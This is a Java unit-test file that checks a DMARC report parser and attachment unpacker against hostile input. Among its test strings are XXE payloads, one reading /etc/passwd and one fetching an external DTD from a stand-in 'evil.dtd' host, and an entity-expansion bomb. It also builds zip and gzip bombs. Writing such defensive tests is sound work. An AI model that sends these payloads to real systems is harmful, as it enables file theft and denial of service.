package dev.repwatch.checks.feeds.dmarc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.repwatch.checks.feeds.FeedFailure;
import dev.repwatch.checks.feeds.mailbox.DocumentKind;
import dev.repwatch.checks.feeds.mailbox.ReportArchive;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileReportTest {

    private static final Instant NOW = Instant.parse("2026-11-24T03:00:00Z");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE feedback [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><feedback>&x;</feedback>",
                "<!DOCTYPE feedback SYSTEM \"http://203.0.113.1/evil.dtd\"><feedback/>",
                "<!DOCTYPE feedback [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;\">]><feedback>&c;</feedback>",
                "<feedback>&undeclared;</feedback>",
                "<html><body>hello</body></html>",
                "<feedback><record><row></row></record></feedback>",
                "<feedback></feedback>",
                "<feedback>",
                ""
            })
    void whatIsNoReportIsRefused(String xml) {
        refused(xml.getBytes(StandardCharsets.UTF_8), "");
    }

    @Test
    void twoHundredThousandNestedElementsAreRefused() {
        refused(("<feedback>" + "<a>".repeat(200_000)).getBytes(StandardCharsets.UTF_8), "within the limits");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "9223372036854775808", "1e3", "", "ten"})
    void aRowWhoseCountCannotBeIsLeftOutAndTheOthersAreKept(String count) throws Exception {
        DmarcReport report = DmarcReader.read(text().replace("<count>90</count>", "<count>" + count + "</count>")
                .getBytes(StandardCharsets.UTF_8));
        assertThat(report.rows()).hasSize(2);
        assertThat(report.faults()).singleElement().asString().contains("left out", "count");
    }

    @Test
    void aReportOfWhichNoRowCanBeReadIsRefused() {
        String xml = text().replace("<count>", "<count>x");
        refused(xml.getBytes(StandardCharsets.UTF_8), "none of its rows");
    }

    @Test
    void moreRowsThanAnyReportHasAreRefused() {
        String row = "<record><row><source_ip>192.0.2.7</source_ip><count>1</count></row></record>";
        String xml = text().replace("</feedback>", row.repeat(100_001) + "</feedback>");
        refused(xml.getBytes(StandardCharsets.UTF_8), "rows");
    }

    @Test
    void utf16IsRead() throws Exception {
        byte[] xml = text().replace("UTF-8", "UTF-16").getBytes(StandardCharsets.UTF_16);
        assertThat(ReportArchive.unpack(xml)).hasSize(1);
        assertThat(DmarcReader.read(xml).rows()).hasSize(3);
    }

    @Test
    void latin1UnderTheNameOfUtf8IsRead() throws Exception {
        byte[] xml = text().replace("Receiver Example", "R\u00e9ceiver").getBytes(Charset.forName("ISO-8859-1"));
        assertThat(DmarcReader.read(xml).rows()).hasSize(3);
    }

    @Test
    void aSchemaElementThatIsNeverClosedIsPassedOver() throws Exception {
        String xml = text().replace(
                        "<feedback>", "<xs:schema targetNamespace=\"http://dmarc.org/dmarc-xml/0.1\"><feedback>");
        assertThat(DmarcReader.read(xml.getBytes(StandardCharsets.UTF_8)).rows())
                .hasSize(3);
    }

    @Test
    void anAddressInAngleBracketsIsPassedOver() throws Exception {
        String xml = text().replace("noreply@receiver.example", "<bad-xml@receiver.example>")
                .replaceFirst("<header_from>example", "<header_from>exa<mple");
        assertThat(DmarcReader.read(xml.getBytes(StandardCharsets.UTF_8)).rows())
                .hasSize(3);
    }

    @Test
    void plainTextUnderTheNameOfAnUnknownCharsetIsRead() throws Exception {
        DmarcReport report = DmarcReader.read(text().replace("UTF-8", "UTF-7").getBytes(StandardCharsets.UTF_8));
        assertThat(report.rows()).hasSize(3);
        assertThat(report.faults()).singleElement().asString().contains("encoding");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\n  <?xml", "\u0000<?xml", "<!-- a letter --><?xml", "Here it is: <?xml"})
    void whatStandsBeforeTheDocumentIsPassedOver(String start) throws Exception {
        String xml = start.contains("--")
                ? text().replaceFirst("<\\?xml[^>]*\\?>", "<!-- a letter -->")
                : text().replace("<?xml", start);
        DmarcReport report = DmarcReader.read(xml.getBytes(StandardCharsets.UTF_8));
        assertThat(report.rows()).hasSize(3);
        assertThat(report.faults()).hasSize(start.contains("--") ? 0 : 1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u0000\u0000", "\n-- \nkind regards & thanks", "</xs:schema>", "<feedback>"})
    void whatStandsAfterTheDocumentIsPassedOver(String end) throws Exception {
        DmarcReport report = DmarcReader.read((text() + end).getBytes(StandardCharsets.UTF_8));
        assertThat(report.rows()).hasSize(3);
        assertThat(report.faults()).singleElement().asString().contains("before or after");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Foo & Bar", "Foo &nbsp; Bar", "a<b", "bell \u0007", "&&&#38;"})
    void signsThatStandForThemselvesAreMended(String name) throws Exception {
        DmarcReport report =
                DmarcReader.read(text().replace("Receiver Example", name).getBytes(StandardCharsets.UTF_8));
        assertThat(report.rows()).hasSize(3);
        assertThat(report.faults()).hasSize(1);
    }

    @Test
    void aPrefixThatIsNeverDeclaredIsPassedOver() throws Exception {
        String xml = text().replaceAll("<(/?)([a-z])", "<$1d:$2");
        assertThat(DmarcReader.read(xml.getBytes(StandardCharsets.UTF_8)).rows())
                .hasSize(3);
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-16"})
    void utf16UnderTheNameOfUtf8IsRead(String charset) throws Exception {
        byte[] xml = text().getBytes(Charset.forName(charset));
        assertThat(DocumentKind.of(xml)).isEqualTo(DocumentKind.XML);
        assertThat(DmarcReader.read(xml).rows()).hasSize(3);
    }

    @Test
    void aReportThatIsCutOffIsRefused() {
        String xml = text();
        refused(xml.substring(0, xml.lastIndexOf("<record>")).getBytes(StandardCharsets.UTF_8), "not well-formed");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1795824000",
                "1795824000.0",
                "1795824000000",
                "2026-11-28T00:00:00Z",
                "2026-11-28T09:00:00+09:00"
            })
    void timesOfReporters(String begin) throws Exception {
        assertThat(DmarcTime.parse(begin, "begin").at()).isEqualTo(Instant.parse("2026-11-28T00:00:00Z"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "pass,fail,PASS",
                "fail,pass,PASS",
                "fail,fail,FAIL",
                "fail,softfail,FAIL",
                "fail,,UNKNOWN",
                ",,UNKNOWN",
                "temperror,fail,UNKNOWN"
            })
    void whatIsNotSaidIsNotFailed(String results) throws Exception {
        String[] it = results.split(",", -1);
        DmarcReport.Row row = DmarcRow.of(Map.of("count", "1", "dkim", it[0], "spf", it[1]));
        assertThat(row.verdict()).hasToString(it[2]);
    }

    @Test
    void aStoredEntryThatSaysItsLengthAfterwardsIsRead() throws Exception {
        byte[] report = Reports.rfc7489(1, NOW);
        assertThat(ReportArchive.unpack(Archives.storedWithDescriptor(report))).containsExactly(report);
    }

    @Test
    void bombsAreNotUnpackedToTheirEnd() {
        unpackRefused(Archives.gzip(new byte[60_000_000]), "more than 20 MB");
        unpackRefused(Archives.zip("a.xml", new byte[200_000_000]), "more than 20 MB");
        unpackRefused(Archives.zip("a.xml", new byte[15_000_000], new byte[15_000_000]), "more than 20 MB");
    }

    @Test
    void archivesInArchivesAreReadToTheThirdOne() throws Exception {
        byte[] inner = Archives.zip("a.xml", Reports.rfc7489(1, NOW));
        byte[] third = Archives.zip("b.zip", Archives.gzip(inner));
        assertThat(ReportArchive.unpack(third)).containsExactly(Reports.rfc7489(1, NOW));
        unpackRefused(Archives.gzip(third), "too many archives");
    }

    @Test
    void bombsInArchivesAreCountedOverAll() {
        byte[] half = Archives.zip("a.xml", new byte[12_000_000]);
        unpackRefused(Archives.zip("b.zip", half, half), "more than 20 MB");
    }

    @Test
    void aThousandEntriesAreRefused() {
        byte[][] many = new byte[1000][];
        Arrays.fill(many, new byte[] {'x'});
        unpackRefused(Archives.zip("a.xml", many), "holds too much");
    }

    @Test
    void halfAnArchiveIsRefused() {
        byte[] whole = Archives.gzip(Reports.rfc7489(1, NOW));
        unpackRefused(Arrays.copyOf(whole, whole.length / 2), "broken archive");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 1, 2})
    void whatIsBrokenInAnArchiveLosesNoneOfTheOthers(int broken) {
        byte[][] entries = {Reports.rfc7489(1, NOW), Reports.rfc7489(2, NOW), Reports.rfc7489(3, NOW)};
        byte[] whole = Archives.gzip(entries[broken]);
        List<byte[]> others = new ArrayList<>(List.of(entries));
        others.remove(broken);
        entries[broken] = Arrays.copyOf(whole, whole.length / 2);
        List<byte[]> read = new ArrayList<>();
        assertThatThrownBy(() -> ReportArchive.unpack(Archives.zip("a.xml", entries), read::add))
                .isInstanceOf(FeedFailure.class)
                .hasMessageContaining("broken archive");
        assertThat(read).containsExactlyElementsOf(others);
    }

    private static String text() {
        return new String(Reports.rfc7489(1, NOW), StandardCharsets.UTF_8);
    }

    private static void refused(byte[] xml, String why) {
        assertThatThrownBy(() -> DmarcReader.read(xml))
                .isInstanceOf(FeedFailure.class)
                .hasMessageContaining(why);
    }

    private static void unpackRefused(byte[] attachment, String why) {
        assertThatThrownBy(() -> ReportArchive.unpack(attachment))
                .isInstanceOf(FeedFailure.class)
                .hasMessageContaining(why);
    }
}
